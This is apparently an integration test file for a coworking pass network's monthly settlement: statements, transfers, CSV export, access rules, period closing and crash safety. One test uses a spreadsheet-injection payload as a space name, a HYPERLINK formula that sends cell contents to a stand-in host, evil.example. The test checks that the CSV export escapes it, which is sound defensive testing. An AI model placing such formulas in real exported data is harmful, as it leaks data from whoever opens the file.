import { dataOf, errorOf } from '@passerelle/testing';
import { Client } from 'pg';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { renderStatement } from '../scripts/statement';
import { sharedStack } from './support/shared-stack';
import {
  createOrganization,
  DAY,
  HOUR,
  lastMonthStart,
  newKey,
  PASSWORD,
  scanAt,
  seedNetwork,
  SeededNetwork,
  sellPass,
  signUp,
  VISITS,
  VOID_VISIT,
} from './support/passes';
import { closePeriod, key, monthIn, period, Period, tryClosePeriod, tryPeriod } from './support/settlement';

// The status alone: a visit's periodMonth comes from settlement, which one test here holds up on purpose.
const CHECK_IN_STATUS = `mutation CheckInStatus($input: CheckInInput!) { checkIn(input: $input) { status } }`;
const PARIS = 'Europe/Paris';

const stack = sharedStack();

/** Instants on distinct days at the end of last month (Paris): offline scans that land in a month that is over. */
const lastMonthDay = (n: number) => new Date(lastMonthStart(PARIS) - n * DAY - HOUR);
const LAST_MONTH = () => monthIn(lastMonthDay(0), PARIS);
const THIS_MONTH = () => monthIn(Date.now(), PARIS);

/**
 * Three spaces A, B, C, a network N and an organization O, and one visit of each kind of pass, all in
 * last month. Worked out by hand:
 *   coupon book sold by A (7 €): at B 700, at C 700, at A itself 0 (no charge)
 *   credits paid by N: at C, 2 credits × 1.50 € = 300
 *   reciprocal of home B (12 €): at A 1200
 *   corporate of O (20 €): at A 2000, at B 2000
 * Statements: A +3200 −1400 = +1800, B +2700 −1200 = +1500, C +1000 = +1000, N −300, O −4000; 6 visits, 6900.
 */
async function threeSpaceMonth(settlementMode: 'DIRECT' | 'CENTRAL' = 'DIRECT') {
  const seeded = await seedNetwork(stack, { spaces: [{}, {}, { creditsPerDay: 2 }] });
  if (settlementMode === 'CENTRAL') await switchToCentral(seeded);
  const [a, b, c] = seeded.spaces;
  const o = await createOrganization(stack, seeded.admin.token, seeded.network.id);
  const coupons = await sellPass(stack, seeded, {}, {}, a);
  const credits = await sellPass(stack, seeded, { kind: 'CREDITS', units: 20, unitValueCents: 150 });
  const reciprocal = await sellPass(
    stack,
    seeded,
    { kind: 'RECIPROCAL', units: null, freeDaysPerMonth: 2, unitValueCents: 1200 },
    {},
    b,
  );
  const corporate = await sellPass(
    stack,
    seeded,
    { kind: 'CORPORATE', units: null, unitValueCents: 2000 },
    { organizationId: o.id },
  );
  const scans = [
    [b, coupons, 0],
    [c, coupons, 1],
    [a, coupons, 2],
    [c, credits, 0],
    [a, reciprocal, 0],
    [a, corporate, 0],
    [b, corporate, 1],
  ] as const;
  const visits = [];
  for (const [space, pass, day] of scans) {
    const result = await scanAt(stack, space, pass.serial, lastMonthDay(day));
    expect(result.status).toBe('ACCEPTED');
    visits.push(result.visit!);
  }
  const parties = {
    a: { kind: 'SPACE', id: a.id, name: a.name },
    b: { kind: 'SPACE', id: b.id, name: b.name },
    c: { kind: 'SPACE', id: c.id, name: c.name },
    n: { kind: 'NETWORK', id: seeded.network.id, name: seeded.network.name },
    o: { kind: 'ORGANIZATION', id: o.id, name: o.name },
  };
  return { seeded, parties, visits };
}

/** A network is registered DIRECT or CENTRAL; the builder registers DIRECT, so CENTRAL is set in SQL. */
async function switchToCentral(seeded: SeededNetwork) {
  const client = new Client(stack.databaseUrl);
  await client.connect();
  await client.query(`UPDATE network.networks SET settlement_mode = 'CENTRAL' WHERE id = $1`, [seeded.network.id]);
  await client.end();
}

const byKey = <T>(rows: T[], keyOf: (row: T) => string) => Object.fromEntries(rows.map((row) => [keyOf(row), row]));
const netsOf = (p: Period) => Object.fromEntries(p.statements.map((s) => [key(s.party), s.netCents]));

describe('settlement: the month between spaces', () => {
  it('works out a three-space month with all four kinds of pass: statements, obligations, DIRECT transfers, CSV', async () => {
    const { seeded, parties: p } = await threeSpaceMonth();
    const live = await period(stack, seeded.admin.token, seeded.network.id, LAST_MONTH());
    expect(live).toMatchObject({ status: 'OPEN', closedAt: null, visitCount: 6, grossCents: 6900 });
    expect(live.network.id).toBe(seeded.network.id);

    expect(byKey(live.statements, (s) => key(s.party))).toEqual({
      [key(p.a)]: {
        party: p.a,
        hostedVisits: 2,
        receivableCents: 3200,
        paidVisits: 2,
        payableCents: 1400,
        netCents: 1800,
      },
      [key(p.b)]: {
        party: p.b,
        hostedVisits: 2,
        receivableCents: 2700,
        paidVisits: 1,
        payableCents: 1200,
        netCents: 1500,
      },
      [key(p.c)]: {
        party: p.c,
        hostedVisits: 2,
        receivableCents: 1000,
        paidVisits: 0,
        payableCents: 0,
        netCents: 1000,
      },
      [key(p.n)]: { party: p.n, hostedVisits: 0, receivableCents: 0, paidVisits: 1, payableCents: 300, netCents: -300 },
      [key(p.o)]: {
        party: p.o,
        hostedVisits: 0,
        receivableCents: 0,
        paidVisits: 2,
        payableCents: 4000,
        netCents: -4000,
      },
    });
    const names = live.statements.map((s) => s.party.name);
    expect(names).toEqual([...names].sort((x, y) => x.localeCompare(y, 'fr')));

    expect(byKey(live.obligations, (o) => `${key(o.payer)}>${key(o.payee)}`)).toEqual({
      [`${key(p.a)}>${key(p.b)}`]: { payer: p.a, payee: p.b, visits: 1, amountCents: 700 },
      [`${key(p.a)}>${key(p.c)}`]: { payer: p.a, payee: p.c, visits: 1, amountCents: 700 },
      [`${key(p.n)}>${key(p.c)}`]: { payer: p.n, payee: p.c, visits: 1, amountCents: 300 },
      [`${key(p.b)}>${key(p.a)}`]: { payer: p.b, payee: p.a, visits: 1, amountCents: 1200 },
      [`${key(p.o)}>${key(p.a)}`]: { payer: p.o, payee: p.a, visits: 1, amountCents: 2000 },
      [`${key(p.o)}>${key(p.b)}`]: { payer: p.o, payee: p.b, visits: 1, amountCents: 2000 },
    });

    // Largest debtor to largest creditor: O→A 1800, O→B 1500, O→C 700, then N→C 300 (k − 1 = 4).
    expect(live.transfers).toEqual([
      { from: p.o, to: p.a, amountCents: 1800 },
      { from: p.o, to: p.b, amountCents: 1500 },
      { from: p.o, to: p.c, amountCents: 700 },
      { from: p.n, to: p.c, amountCents: 300 },
    ]);

    const lines = live.csv.split('\r\n');
    expect(lines[0]).toBe(
      'party_kind,party_id,party_name,hosted_visits,receivable_cents,receivable,paid_visits,payable_cents,payable,net_cents,net,currency',
    );
    expect(lines).toContain(`SPACE,${p.a.id},${p.a.name},2,3200,32.00,2,1400,14.00,1800,18.00,EUR`);
    expect(lines).toContain(`ORGANIZATION,${p.o.id},${p.o.name},0,0,0.00,2,4000,40.00,-4000,-40.00,EUR`);
    expect(lines).toHaveLength(live.statements.length + 2);
  });

  it('writes a party name that a spreadsheet would run as a formula as text, and negative amounts as numbers', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    const seeded = await seedNetwork(stack, { spaces: [{ name: formula }, {}] });
    const [seller, host] = seeded.spaces;
    const coupons = await sellPass(stack, seeded, {}, {}, seller);
    expect((await scanAt(stack, host, coupons.serial, lastMonthDay(0))).status).toBe('ACCEPTED');

    const { csv } = await period(stack, seeded.admin.token, seeded.network.id, LAST_MONTH());
    expect(csv.split('\r\n')).toContain(
      `SPACE,${seller.id},"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",0,0,0.00,1,700,7.00,-700,-7.00,EUR`,
    );
    expect(csv.split('\r\n')).toContain(`SPACE,${host.id},${host.name},1,700,7.00,0,0,0.00,700,7.00,EUR`);
  });

  it('settles CENTRAL networks through the network: every party pays or is paid by it', async () => {
    const { seeded, parties: p } = await threeSpaceMonth('CENTRAL');
    const live = await period(stack, seeded.admin.token, seeded.network.id, LAST_MONTH());
    expect(byKey(live.transfers, (t) => `${key(t.from)}>${key(t.to)}`)).toEqual({
      [`${key(p.n)}>${key(p.a)}`]: { from: p.n, to: p.a, amountCents: 1800 },
      [`${key(p.n)}>${key(p.b)}`]: { from: p.n, to: p.b, amountCents: 1500 },
      [`${key(p.n)}>${key(p.c)}`]: { from: p.n, to: p.c, amountCents: 1000 },
      [`${key(p.o)}>${key(p.n)}`]: { from: p.o, to: p.n, amountCents: 4000 },
    });
  });

  it('shows an operator the totals and only what their space is party to', async () => {
    const { seeded, parties: p } = await threeSpaceMonth();
    const c = seeded.spaces[2];
    const seen = await period(stack, c.operator.token, seeded.network.id, LAST_MONTH());
    expect(seen).toMatchObject({ visitCount: 6, grossCents: 6900 });
    expect(seen.statements.map((s) => key(s.party))).toEqual([key(p.c)]);
    expect(seen.obligations.map((o) => key(o.payer)).sort()).toEqual([key(p.a), key(p.n)].sort());
    expect(seen.transfers).toEqual([
      { from: p.o, to: p.c, amountCents: 700 },
      { from: p.n, to: p.c, amountCents: 300 },
    ]);
    expect(seen.csv.split('\r\n')).toHaveLength(3);

    const stranger = await signUp(stack);
    expect(errorOf(await tryPeriod(stack, stranger.token, seeded.network.id, LAST_MONTH())).code).toBe('FORBIDDEN');
    const other = await seedNetwork(stack);
    const foreign = await tryPeriod(stack, other.spaces[0].operator.token, seeded.network.id, LAST_MONTH());
    expect(errorOf(foreign).code).toBe('FORBIDDEN');
    expect(errorOf(await tryPeriod(stack, c.scanner, seeded.network.id, LAST_MONTH())).code).toBe('UNAUTHENTICATED');
    const badMonth = errorOf(await tryPeriod(stack, seeded.admin.token, seeded.network.id, '2026-13'));
    expect(badMonth).toMatchObject({ code: 'BAD_USER_INPUT', field: 'month' });
  });

  it('closes a month that is over, once, for network admins only, and freezes it', async () => {
    const { seeded } = await threeSpaceMonth();
    const { network, admin, spaces } = seeded;
    const refused = errorOf(await tryClosePeriod(stack, admin.token, network.id, THIS_MONTH()));
    expect(refused).toMatchObject({ code: 'BAD_USER_INPUT', field: 'month' });
    const byOperator = await tryClosePeriod(stack, spaces[0].operator.token, network.id, LAST_MONTH());
    expect(errorOf(byOperator).code).toBe('FORBIDDEN');
    expect((await period(stack, admin.token, network.id, LAST_MONTH())).status).toBe('OPEN');

    // Two admins' clicks at once close it once; both see the same frozen period.
    const [first, second] = await Promise.all([
      closePeriod(stack, admin.token, network.id, LAST_MONTH()),
      closePeriod(stack, admin.token, network.id, LAST_MONTH()),
    ]);
    expect(first).toMatchObject({ status: 'CLOSED', visitCount: 6, grossCents: 6900 });
    expect(second).toEqual(first);
    expect(await closePeriod(stack, admin.token, network.id, LAST_MONTH())).toEqual(first);
    expect(await period(stack, admin.token, network.id, LAST_MONTH())).toEqual(first);
  });

  it('voids before the close leave the month; voids and late scans after it land in the next open month', async () => {
    const { seeded, parties: p, visits } = await threeSpaceMonth();
    const { network, admin, spaces } = seeded;
    const [atB, , , , , atA] = visits; // coupon at B (A pays 700), corporate at A (O pays 2000)
    const voidAs = (token: string, id: string) => stack.gql(VOID_VISIT, { id, reason: 'Scanned by mistake' }, token);

    dataOf(await voidAs(spaces[1].operator.token, atB.id));
    const beforeClose = await period(stack, admin.token, network.id, LAST_MONTH());
    expect(beforeClose).toMatchObject({ visitCount: 5, grossCents: 6200 });
    expect(netsOf(beforeClose)[key(p.b)]).toBe(800);

    const closed = await closePeriod(stack, admin.token, network.id, LAST_MONTH());
    const openBefore = await period(stack, admin.token, network.id, THIS_MONTH());

    // After the close: a void of a closed month's visit, and a scan uploaded late from last month.
    dataOf(await voidAs(spaces[0].operator.token, atA.id));
    const late = await sellPass(
      stack,
      seeded,
      { kind: 'CORPORATE', units: null, unitValueCents: 2500 },
      {
        organizationId: p.o.id,
      },
    );
    const lateVisit = (await scanAt(stack, spaces[2], late.serial, lastMonthDay(2))).visit!;
    expect(lateVisit.periodMonth).toBe(THIS_MONTH());

    expect(await period(stack, admin.token, network.id, LAST_MONTH())).toEqual(closed);
    const open = await period(stack, admin.token, network.id, THIS_MONTH());
    expect(open.visitCount - openBefore.visitCount).toBe(0); // −1 for the void, +1 for the late scan
    expect(open.grossCents - openBefore.grossCents).toBe(-2000 + 2500);
    expect(byKey(open.obligations, (o) => `${key(o.payer)}>${key(o.payee)}`)).toMatchObject({
      [`${key(p.o)}>${key(p.a)}`]: { visits: -1, amountCents: -2000 },
      [`${key(p.o)}>${key(p.c)}`]: { visits: 1, amountCents: 2500 },
    });

    const shown = dataOf(
      await stack.gql<{ visits: { edges: Array<{ node: { id: string; periodMonth: string } }> } }>(
        VISITS,
        { filter: { networkId: network.id } },
        admin.token,
      ),
    ).visits.edges.map((edge) => edge.node);
    expect(byKey(shown, (v) => v.id)[atA.id].periodMonth).toBe(LAST_MONTH());
    expect(byKey(shown, (v) => v.id)[lateVisit.id].periodMonth).toBe(THIS_MONTH());
  });

  it('prints the month for an operator at the command line, and writes its CSV', async () => {
    const { seeded, parties: p } = await threeSpaceMonth();
    const folder = mkdtempSync(join(tmpdir(), 'passerelle-statement-'));
    const csv = join(folder, 'month.csv');
    try {
      const options = {
        url: stack.gatewayUrl,
        network: seeded.network.slug,
        month: LAST_MONTH(),
        email: seeded.admin.email,
        password: PASSWORD,
      };
      const printed = await renderStatement({ ...options, csv });
      expect(printed).toContain(`${seeded.network.name} — ${LAST_MONTH()} (open`);
      expect(printed).toMatch(/6 charged visits, 69,00\s€ in all/);
      expect(printed).toMatch(new RegExp(`${p.o.name}\\s+│\\s+${p.a.name}\\s+│\\s+18,00\\s€`));
      const live = await period(stack, seeded.admin.token, seeded.network.id, LAST_MONTH());
      expect(readFileSync(csv, 'utf8')).toBe(live.csv);
      await expect(renderStatement({ ...options, password: 'wrong password' })).rejects.toThrow(/^Logging in failed/);
      await expect(renderStatement({ ...options, network: 'no-such-network' })).rejects.toThrow(/no network/);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });

  it('loses and doubles no charge when the consumer is killed in the middle of a batch', async () => {
    const seeded = await seedNetwork(stack, { spaces: [{}, {}] });
    const [seller, host] = seeded.spaces;
    const blocker = new Client(stack.databaseUrl);
    const killer = new Client(stack.databaseUrl);
    await Promise.all([blocker.connect(), killer.connect()]);
    try {
      // Hold the charges table: the consumer's next batch records its visits, then waits on the lock.
      await blocker.query('BEGIN');
      await blocker.query('LOCK TABLE settlement.charges IN EXCLUSIVE MODE');
      for (const day of [0, 1, 2]) {
        const pass = await sellPass(stack, seeded, {}, {}, seller);
        // Without periodMonth: that field is settlement's, and settlement is the one held up.
        const input = {
          spaceId: host.id,
          credential: pass.serial,
          idempotencyKey: newKey(),
          occurredAt: lastMonthDay(day),
        };
        const scanned = await stack.gql<{ checkIn: { status: string } }>(CHECK_IN_STATUS, { input }, host.scanner);
        expect(dataOf(scanned).checkIn.status).toBe('ACCEPTED');
      }
      const waiting = await waitFor(async () => {
        const { rows } = await killer.query(
          `SELECT pid FROM pg_stat_activity
            WHERE datname = current_database() AND wait_event_type = 'Lock' AND query LIKE '%INSERT INTO charges%'`,
        );
        return rows[0]?.pid as number | undefined;
      });
      // Killed mid-batch, as a crash would: its transaction, half-written, is rolled back.
      await killer.query('SELECT pg_terminate_backend($1)', [waiting]);
    } finally {
      await blocker.query('ROLLBACK');
      await Promise.all([blocker.end(), killer.end()]);
    }
    const live = await period(stack, seeded.admin.token, seeded.network.id, LAST_MONTH());
    expect(live).toMatchObject({ visitCount: 3, grossCents: 2100 });
    const check = new Client(stack.databaseUrl);
    await check.connect();
    const { rows } = await check.query(
      'SELECT count(*)::int AS charges FROM settlement.charges WHERE network_id = $1',
      [seeded.network.id],
    );
    await check.end();
    expect(rows[0].charges).toBe(3);
  });
});

/** Polls a condition that another process will make true (not a sleep: it returns as soon as it holds). */
async function waitFor<T>(probe: () => Promise<T | undefined>, timeoutMs = 20_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await probe();
    if (value !== undefined) return value;
    if (Date.now() > deadline) throw new Error('Timed out waiting for the consumer to block.');
    await new Promise((resolve) => setImmediate(resolve));
  }
}
